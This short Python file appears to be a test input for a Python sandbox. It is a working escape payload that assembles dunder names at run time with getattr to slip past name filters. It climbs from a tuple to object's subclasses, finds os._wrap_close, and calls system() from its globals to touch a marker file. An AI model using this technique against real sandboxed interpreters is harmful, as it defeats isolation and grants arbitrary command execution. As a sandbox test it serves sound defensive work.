"""The same walk with getattr and attribute names built at run time."""
# ruff: noqa -- hostile data, not project code: written to attack, not to be linted
u = "_" * 2
base = getattr(getattr((), u + "class" + u), u + "bases" + u)[0]
for c in getattr(base, u + "subclasses" + u)():
    if c.__name__ == "_wrap_close":
        g = getattr(getattr(c, u + "init" + u), u + "globals" + u)
        g["system"]("touch @MARKERDIR@/getattr")
